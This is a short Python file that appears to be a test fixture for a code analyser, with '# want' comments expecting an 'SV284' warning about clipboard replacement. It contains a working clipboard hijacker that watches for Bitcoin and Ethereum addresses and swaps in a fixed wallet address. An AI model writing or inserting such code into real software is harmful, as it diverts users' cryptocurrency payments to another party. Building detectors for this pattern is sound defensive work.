import re
import time

import pyperclip

BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
while True:
    text = pyperclip.paste()
    if BTC.match(text):
        pyperclip.copy("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")  # want "SV284: replaces clipboard contents with a cryptocurrency address [(]bc1qxy2kgdygjrsq…[)] after matching"
    elif ETH.match(text):
        pyperclip.copy(ETH_ADDR)  # want "SV284: replaces clipboard contents .* after matching wallet addresses"
    time.sleep(0.5)
